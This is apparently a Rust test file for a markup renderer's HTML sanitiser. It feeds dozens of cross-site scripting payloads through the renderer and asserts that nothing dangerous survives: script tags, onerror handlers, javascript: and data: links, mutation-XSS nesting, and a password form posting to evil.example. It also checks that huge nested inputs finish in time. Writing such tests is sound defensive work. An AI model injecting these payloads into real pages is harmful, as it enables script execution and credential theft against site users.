//! What must come to nothing, and what must come to an end.

use std::time::{Duration, Instant};

use gatewright_markup::html;

/// What no text may become, wherever a browser would take it for more than text.
pub(crate) fn dangers(html: &str) -> Vec<String> {
    let mut found = Vec::new();
    let mut rest = html;
    while let Some(at) = rest.find('<') {
        let mut quoted = false;
        let tag = &rest[at..];
        let end = tag
            .bytes()
            .position(|byte| {
                quoted ^= byte == b'"';
                byte == b'>' && !quoted
            })
            .map_or(tag.len(), |end| end + 1);
        judge(&tag[..end], &mut found);
        rest = &tag[end..];
    }
    found
}

fn judge(tag: &str, found: &mut Vec<String>) {
    let inner = tag.trim_start_matches(['<', '/']).trim_end_matches('>');
    let name: String = inner.chars().take_while(char::is_ascii_alphanumeric).collect();
    const KNOWN: &str = " a abbr b blockquote br caption cite code dd del details dfn div dl dt em h3 h4 h5 h6 h1 h2 hr i img ins kbd \
                         li ol p pre q s samp small span strong sub summary sup table tbody td tfoot th thead tr u ul var ";
    if !KNOWN.contains(&format!(" {name} ")) {
        found.push(tag.to_owned());
    }
    let mut rest = &inner[name.len()..];
    while let Some((key, after)) = rest.trim_start().split_once("=\"") {
        let Some(end) = after.find('"') else {
            found.push(tag.to_owned());
            return;
        };
        let value = &after[..end];
        const KEYS: &str =
            " href src alt width height start align colspan rowspan scope id title lang dir rel class open aria-label ";
        let known = KEYS.contains(&format!(" {key} "));
        let safe = match key {
            "href" => {
                ["http://", "https://", "mailto:", "#"]
                    .iter()
                    .any(|good| value.to_ascii_lowercase().starts_with(good))
                    || own(value)
            }
            "src" => own(value),
            "id" => value.starts_with("text-"),
            "class" => value == "anchor" || value.is_empty(),
            _ => true,
        };
        if !known || !safe {
            found.push(tag.to_owned());
        }
        rest = &after[end + 1..];
    }
}

fn own(value: &str) -> bool {
    value.starts_with('/') && !value.starts_with("//") && !value.contains('\\')
}

#[test]
fn nothing_becomes_a_script_a_style_a_form_or_a_frame() {
    let corpus = [
        "<script>alert(1)</script>",
        "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
        "<img src=x onerror=alert(1)>",
        "<img src=\"javascript:alert(1)\">",
        "<svg/onload=alert(1)>",
        "<svg><script>alert(1)</script></svg>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
        "[a](javascript:alert(1))",
        "[a](JaVaScRiPt:alert(1))",
        "[a](java\nscript:alert(1))",
        "[a](&#106;avascript:alert(1))",
        "[a](\u{1}javascript:alert(1))",
        "[a](vbscript:x)",
        "[a](data:text/html;base64,PHNjcmlwdD4=)",
        "<a href=\"data:text/html,<script>1</script>\">x</a>",
        "<a href=\" javascript:alert(1)\">x</a>",
        "<a href=\"java&Tab;script:alert(1)\">x</a>",
        "[a](//evil.example)",
        "[a](/\\evil.example)",
        "<javascript:alert(1)>",
        "![a](javascript:alert(1))",
        "![a](data:image/svg+xml;base64,PHN2Zz4=)",
        "![a](//evil.example/p.png)",
        "<iframe src=\"https://evil.example\"></iframe>",
        "<object data=x></object><embed src=x>",
        "<form action=https://evil.example><input name=password><button>go</button></form>",
        "<style>body{display:none}</style><p style=\"position:fixed\" class=\"dialog\">x</p>",
        "<meta http-equiv=refresh content=\"0;url=https://evil.example\"><base href=\"//evil.example\">",
        "<link rel=stylesheet href=//evil.example/x.css>",
        "<div id=\"main\" onclick=\"x()\" data-x=\"1\">x</div>",
        "<h1 id=\"sign-in\">x</h1>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        "<textarea><img title=\"</textarea><img src=x onerror=alert(1)>\">",
        "<!--><img src=x onerror=alert(1)>-->",
        "<![CDATA[<img src=x onerror=alert(1)>]]>",
        "<a href=\"https://x.example\" target=_blank ping=\"https://evil.example\">x</a>",
        "<img alt=\"<img src=x onerror=alert(1)>\" src=\"https://a.example/x\">",
        "<video src=x onerror=alert(1)></video><audio src=x>",
        "<api-playground><script type=\"application/json\">{}</script></api-playground>",
        "`<script>alert(1)</script>`",
        "```\"><script>alert(1)</script>\nx\n```",
        "# <img src=x onerror=alert(1)>",
        "| <script>x</script> |\n|---|\n| <img src=x onerror=y> |",
        "[ref]: javascript:alert(1)\n[ref]",
        "<https://a.example/\"onmouseover=alert(1)>",
        "<xss onfocus=alert(1) tabindex=1 contenteditable>x</xss>",
        "<a href=\"http://[::1]\u{0}javascript:1\">x</a>",
    ];
    for text in corpus {
        let shown = html(text);
        assert_eq!(dangers(&shown), Vec::<String>::new(), "{text:?} became {shown:?}");
    }
}

#[test]
fn what_looks_for_danger_finds_it() {
    for bad in [
        "<script>x</script>",
        "<p onclick=\"x\">",
        "<a href=\"javascript:1\">",
        "<a href=\"//evil\">",
        "<img src=\"https://a.example\">",
        "<h3 id=\"main\">",
        "<p style=\"x\">",
        "<p class=\"dialog\">",
    ] {
        assert!(!dangers(bad).is_empty(), "{bad}");
    }
}

#[test]
fn nothing_is_so_deep_or_long_that_it_does_not_end() {
    let long = 200_000;
    let corpus = [
        ">".repeat(long),
        "> ".repeat(long),
        "- ".repeat(long),
        "[".repeat(long),
        "![".repeat(long / 2),
        "[a](".repeat(long / 4),
        "*".repeat(long),
        "*a ".repeat(long / 3),
        "_a*b".repeat(long / 4),
        "`".repeat(long),
        "<b>".repeat(long / 3),
        "<table>".repeat(long / 7),
        "<div><p>".repeat(long / 8),
        "<a href=x>".repeat(long / 10),
        "&#x41;".repeat(long / 6),
        "|a".repeat(long / 2),
        format!("|a|\n|-|\n{}", "|b|\n".repeat(long / 4)),
        format!("{}\n{}", "|a".repeat(2_000), "|-".repeat(2_000)) + &"\n|b".repeat(20_000),
        "a\n".repeat(long / 2),
        "[a]: b\n".repeat(long / 7),
        "1. ".repeat(long / 3),
        format!("{}a", "    ".repeat(long / 4)),
        "<!--".repeat(long / 4),
        "<![CDATA[".repeat(long / 9),
        "www.".repeat(long / 4),
        "a@".repeat(long / 2),
        "http://a/".repeat(long / 9),
        "~~a".repeat(long / 3),
        "# a\n".repeat(long / 4),
        "\0".repeat(long),
        "x".repeat(10 * 1024 * 1024),
    ];
    for text in corpus {
        let begun = Instant::now();
        let shown = html(&text);
        let took = begun.elapsed();
        let name: String = text.chars().take(20).collect();
        assert!(took < Duration::from_secs(10), "{name:?} took {took:?}");
        assert!(dangers(&shown).is_empty(), "{name:?}");
    }
}
